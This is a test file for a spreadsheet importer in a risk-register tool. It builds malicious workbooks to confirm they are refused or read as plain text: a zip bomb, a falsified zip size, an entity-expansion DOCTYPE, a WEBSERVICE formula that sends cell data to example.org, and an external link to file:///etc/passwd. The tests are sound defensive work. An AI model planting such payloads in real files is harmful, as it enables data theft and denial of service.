import { strToU8, zipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { importTables } from '@nvs/project';
import { readSheets, Unreadable, type Sheet } from '@nvs/tables';
import { inWords } from '@nvs/words';

// Workbooks that would do harm, or that mean something else than they seem to, made by hand: refused in words, or read as text.

const XML = '<?xml version="1.0" encoding="UTF-8"?>';

interface Book {
    readonly sheets: Readonly<Record<string, string>>;
    readonly properties?: string;
    readonly styles?: string;
    readonly others?: Readonly<Record<string, string>>;
}

/** A workbook of sheets by name, each its XML within `sheetData`; what stands behind `|` comes behind it. */
function workbook({ sheets, properties = '', styles = '', others = {} }: Book): Uint8Array {
    const names = Object.keys(sheets);
    const parts: Record<string, string> = {
        'xl/workbook.xml': `${XML}<workbook xmlns:r="r"><workbookPr ${properties}/><sheets>${names
            .map((name, at) => `<sheet name="${name}" sheetId="${at + 1}" r:id="r${at}"/>`)
            .join('')}</sheets></workbook>`,
        'xl/_rels/workbook.xml.rels': `${XML}<Relationships>${names
            .map((_, at) => `<Relationship Id="r${at}" Target="worksheets/sheet${at}.xml"/>`)
            .join('')}</Relationships>`,
        ...(styles === '' ? {} : { 'xl/styles.xml': `${XML}<styleSheet>${styles}</styleSheet>` }),
        ...others
    };
    names.forEach((name, at) => {
        const [data = '', behind = ''] = (sheets[name] ?? '').split('|');
        parts[`xl/worksheets/sheet${at}.xml`] = `${XML}<worksheet><sheetData>${data}</sheetData>${behind}</worksheet>`;
    });
    return zipSync(Object.fromEntries(Object.entries(parts).map(([name, text]) => [name, strToU8(text)])));
}

const text = (ref: string, said: string): string => `<c r="${ref}" t="inlineStr"><is><t>${said}</t></is></c>`;
const row = (number: number, ...cells: readonly string[]): string => `<row r="${number}">${cells.join('')}</row>`;
const table = (...rows: readonly (readonly string[])[]): string =>
    rows
        .map((cells, at) => row(at + 1, ...cells.map((said, column) => text(`${String.fromCharCode(65 + column)}${at + 1}`, said))))
        .join('');

const texts = (sheet: Sheet | undefined): readonly string[][] =>
    (sheet?.rows ?? []).map(({ cells }) => [...cells].map(cell => cell?.text ?? ''));

function refused(bytes: Uint8Array): string {
    try {
        readSheets(bytes);
        return 'was read';
    } catch (error) {
        return error instanceof Unreadable ? inWords(error.said, 'en') : `was thrown: ${String(error)}`;
    }
}

describe('refused, in words', () => {
    it('a zip that unpacks to more than any table', () => {
        // 200 MB of blanks take 200 kB; it is told before they are unpacked
        const bomb = workbook({ sheets: { One: `${' '.repeat(200 * 1024 * 1024)}` } });
        expect(bomb.length).toBeLessThan(1024 * 1024);
        expect(refused(bomb)).toMatch(/takes more than 256 MB/);
    });

    it('a zip that says that it is smaller than it is', () => {
        const bytes = workbook({ sheets: { One: row(1, text('A1', 'x'.repeat(100_000))) } });
        const view = new DataView(bytes.buffer, bytes.byteOffset);
        // the size unpacked, in the list at the end of the zip
        for (let at = 0; at < bytes.length - 46; at++) {
            if (view.getUint32(at, true) === 0x02014b50 && view.getUint32(at + 24, true) > 100_000) {
                view.setUint32(at + 24, 100, true);
            }
        }
        expect(refused(bytes)).toMatch(/cannot be read|is no/);
    });

    it('a zip that is cut off', () => {
        const bytes = workbook({ sheets: { One: table(['Risk']) } });
        expect(refused(bytes.slice(0, bytes.length - 40))).toMatch(/begins like a workbook and cannot be read/);
    });

    it.each([
        ['a cell in column 16,384', row(1, text('XFD1', 'far'))],
        ['a cell in row 1,048,576', row(1_048_576, text('A1048576', 'low'))]
    ])('%s', (_, data) => {
        expect(refused(workbook({ sheets: { One: data } }))).toMatch(/more than 100,000 rows or 1,000 columns/);
    });

    it('entities that unfold', () => {
        const bytes = workbook({
            sheets: { One: row(1, text('A1', '&b;')) },
            others: {
                'xl/sharedStrings.xml': `${XML}<!DOCTYPE sst [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]><sst><si><t>&b;</t></si></sst>`
            }
        });
        expect(refused(bytes)).toMatch(/cannot be read/);
    });
});

describe('read as text', () => {
    it('formulas are counted and never worked out; what they came to is read', () => {
        const [sheet] = readSheets(
            workbook({
                sheets: {
                    One: row(
                        1,
                        '<c r="A1" t="str"><f>WEBSERVICE("http://example.org/"&amp;B1)</f><v>kept</v></c>',
                        '<c r="B1"><f>1+1</f></c>',
                        text('C1', '=1+1')
                    )
                }
            })
        );
        expect(texts(sheet)).toEqual([['kept', '', '=1+1']]);
        expect(sheet?.formulas).toBe(2);
    });

    it('links to other files are not followed', () => {
        const [sheet] = readSheets(
            workbook({
                sheets: { One: row(1, '<c r="A1"><f>[1]Sheet1!$A$1</f><v>7</v></c>') },
                others: {
                    'xl/externalLinks/externalLink1.xml': `${XML}<externalLink><externalBook r:id="rId1"/></externalLink>`,
                    'xl/externalLinks/_rels/externalLink1.xml.rels': `${XML}<Relationships><Relationship Id="rId1" Target="file:///etc/passwd" TargetMode="External"/></Relationships>`
                }
            })
        );
        expect(texts(sheet)).toEqual([['7']]);
    });

    it('days are counted from 1904 where the workbook says so', () => {
        // 18.8.30: number 14 is a day. 2026-03-01 is day 46,082 since the last of 1899, and 1,462 less since 1904
        const styles = '<cellXfs><xf numFmtId="0"/><xf numFmtId="14"/></cellXfs>';
        const of = (days: number, properties: string): string | undefined =>
            texts(readSheets(workbook({ sheets: { One: row(1, `<c r="A1" s="1"><v>${days}</v></c>`) }, properties, styles }))[0])[0]?.[0];
        expect(of(46_082, '')).toBe('2026-03-01');
        expect(of(46_082 - 1_462, 'date1904="1"')).toBe('2026-03-01');
    });

    it('merged cells hold what the first of them says, and no more than there are rows', () => {
        const [sheet] = readSheets(
            workbook({
                sheets: {
                    One: `${row(1, text('A1', 'both'), text('C1', 'c'))}${row(2, text('C2', 'd'))}|<mergeCells><mergeCell ref="A1:B1048576"/></mergeCells>`
                }
            })
        );
        expect(texts(sheet)).toEqual([
            ['both', 'both', 'c'],
            ['both', 'both', 'd']
        ]);
    });

    it('control characters reach no text of the model', async () => {
        const made = await importTables({
            file: 'a.xlsx',
            bytes: workbook({ sheets: { One: table(['Risk', 'Likelihood', 'Impact'], ['Flo_x0000__x001B_od', '3', '4']) } }),
            map: {},
            method: 'anv2022',
            into: undefined,
            replacing: undefined,
            projectMethod: undefined,
            language: 'en'
        });
        expect('problem' in made ? inWords(made.problem, 'en') : made.text).toMatch(/threat \w+ "[^\p{Cc}]*"/u);
        expect('problem' in made ? '' : made.text.replaceAll('\n', '')).not.toMatch(/\p{Cc}/u);
    });
});

describe('registers of several years in a workbook', () => {
    const register = (likelihood: string): string =>
        table(['Risk', 'Likelihood', 'Impact'], ['Flood', likelihood, '4'], ['Fire', '2', '2'], ['Storm', '3', '3']);
    const imported = async (sheets: Readonly<Record<string, string>>, sheet?: string) => {
        const made = await importTables({
            file: 'a.xlsx',
            bytes: workbook({ sheets }),
            map: sheet === undefined ? {} : { sheet },
            method: 'anv2022',
            into: undefined,
            replacing: undefined,
            projectMethod: undefined,
            language: 'en'
        });
        return 'problem' in made
            ? { text: '', said: [inWords(made.problem, 'en')] }
            : { text: made.text, said: made.told.said.map(each => inWords(each, 'en')) };
    };

    it('the latest year is read, and which was left is told', async () => {
        const { text, said } = await imported({ 'Register 2024': register('1'), 'Register 2025': register('5') });
        expect(text.match(/^threat /gm)).toHaveLength(3);
        expect(text).toMatch(/likelihood: +E/);
        expect(said.join('\n')).toContain('Sheet "Register 2024" lists mostly the same as "Register 2025" and is not read');
    });

    it('another one can be chosen', async () => {
        const { text } = await imported({ 'Register 2024': register('1'), 'Register 2025': register('5') }, 'Register 2024');
        expect(text).toMatch(/likelihood: +A/);
    });

    it('sheets with other risks are both read', async () => {
        const { text, said } = await imported({
            Nature: register('1'),
            Malice: table(['Risk', 'Likelihood', 'Impact'], ['Hack', '2', '3'], ['Theft', '1', '1'])
        });
        expect(text.match(/^threat /gm)).toHaveLength(5);
        expect(said.join('\n')).not.toContain('mostly the same');
    });
});
